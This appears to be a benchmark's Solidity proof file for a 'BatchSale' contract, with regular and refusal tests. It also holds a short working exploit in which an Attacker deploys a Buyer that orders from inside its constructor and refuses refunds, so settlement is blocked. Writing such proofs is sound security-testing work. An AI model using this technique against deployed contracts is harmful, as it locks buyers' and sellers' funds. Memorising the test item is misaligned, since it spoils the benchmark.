// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./BatchSale.sol";

// assay-canary-358abed8-7fc2-48b2-b562-01f9bebfa47c

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
}

/// Orders while it is being created, and accepts no ether.
contract Buyer {
    constructor(BatchSale sale) payable {
        sale.order{value: msg.value}(1);
    }
}

contract Attacker {
    BatchSale internal sale;

    constructor(BatchSale sale_) {
        sale = sale_;
    }

    function run() external {
        new Buyer{value: sale.cap()}(sale);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    BatchSale private sale;
    Attacker private mallory;
    address private constant SELLER = address(0x5E11E4);
    address private constant ELSA = address(0xE15A);
    address private constant FINN = address(0xF1AA);
    address private constant GRETE = address(0x64E7E);

    function setUp() public {
        vm.warp(1_700_000_000);
        sale = new BatchSale(SELLER, 1 ether, 21 days);
        mallory = new Attacker(sale);
        vm.deal(address(mallory), 1 ether);
        vm.deal(ELSA, 10 ether);
        vm.deal(FINN, 10 ether);
        vm.deal(GRETE, 10 ether);
        vm.prank(ELSA);
        sale.order{value: 10 ether}(10);
    }

    function test_Regular() public {
        vm.prank(FINN);
        sale.order{value: 8 ether}(8);
        vm.prank(GRETE);
        uint256 index = sale.order{value: 6 ether}(6);
        vm.prank(GRETE);
        sale.cut(index, 4);
        require(sale.total() == 22 && sale.owed(GRETE) == 2 ether, "cut");
        vm.prank(FINN);
        (bool ok, ) = address(sale).call(abi.encodeCall(BatchSale.cut, (index, 0)));
        require(!ok, "not theirs");
        (ok, ) = address(sale).call(abi.encodeCall(BatchSale.settle, (1)));
        require(!ok, "not fixed");

        vm.warp(block.timestamp + 21 days);
        (ok, ) = address(sale).call(abi.encodeCall(BatchSale.fix, (0)));
        require(!ok, "only the seller in the term");
        vm.prank(SELLER);
        sale.fix(0.75 ether);
        require(sale.settle(2) == 2 && sale.settle(9) == 1, "in parts");
        require(ELSA.balance == 2.5 ether && FINN.balance == 4 ether && GRETE.balance == 5 ether, "surplus");
        vm.prank(GRETE);
        sale.pull();
        require(GRETE.balance == 7 ether, "pulled");
        sale.claim();
        require(SELLER.balance == 16.5 ether && address(sale).balance == 0, "seller paid");
    }

    // finn orders in time, the seller fixes the price, and finn settles the sale
    function honestSale() public {
        vm.prank(FINN);
        sale.order{value: 10 ether}(10);
        vm.warp(sale.end());
        vm.prank(SELLER);
        sale.fix(0.8 ether);
        vm.prank(FINN);
        sale.settle(50);
        require(FINN.balance == 2 ether && ELSA.balance == 2 ether, "surplus");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Orders of accounts without code, of some units, at the cap, while the sale is open.
    function test_RefusesOrders() public {
        vm.deal(address(mallory), 2 ether);
        refuses(address(mallory), BatchSale.NoCode.selector);
        sale.order{value: 1 ether}(1);
        refuses(FINN, BatchSale.BadCount.selector);
        sale.order(0);
        vm.deal(FINN, 50 ether);
        refuses(FINN, BatchSale.BadCount.selector);
        sale.order{value: 41 ether}(41);
        refuses(FINN, BatchSale.BadPrice.selector);
        sale.order{value: 1 ether}(2);
        refuses(ELSA, BatchSale.BadCount.selector);
        sale.cut(0, 10);
        vm.warp(block.timestamp + 21 days);
        refuses(FINN, BatchSale.Closed.selector);
        sale.order{value: 1 ether}(1);
        refuses(ELSA, BatchSale.Closed.selector);
        sale.cut(0, 5);
        try new BatchSale(SELLER, 0, 1 days) {
            revert("a sale without a cap");
        } catch (bytes memory why) {
            require(bytes4(why) == BatchSale.BadPrice.selector, "cap");
        }
    }

    /// One price, in time, by the seller, or none at all.
    function test_RefusesPrices() public {
        refuses(SELLER, BatchSale.Open.selector);
        sale.fix(0);
        vm.warp(block.timestamp + 21 days);
        refuses(SELLER, BatchSale.BadPrice.selector);
        sale.fix(1 ether + 1);
        vm.warp(block.timestamp + 10 days);
        refuses(ELSA, BatchSale.NotSeller.selector);
        sale.fix(1);
        vm.prank(ELSA);
        sale.fix(0);
        refuses(SELLER, BatchSale.BadPrice.selector);
        sale.fix(1 ether);
    }

    /// Ether that is not there, or not taken.
    function test_RefusesPayments() public {
        refuses(FINN, BatchSale.Nothing.selector);
        sale.pull();
        vm.prank(ELSA);
        sale.cut(0, 5);
        vm.deal(address(sale), 0);
        refuses(ELSA, BatchSale.Failed.selector);
        sale.pull();
        vm.warp(block.timestamp + 21 days);
        vm.prank(SELLER);
        sale.fix(1 ether);
        sale.settle(1);
        vm.expectRevert(BatchSale.Failed.selector);
        sale.claim();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        (bool ok, ) = address(this).call(abi.encodeCall(this.honestSale, ()));
        require(!ok, "still settles");
    }

    function target() public view returns (address) {
        return address(sale);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
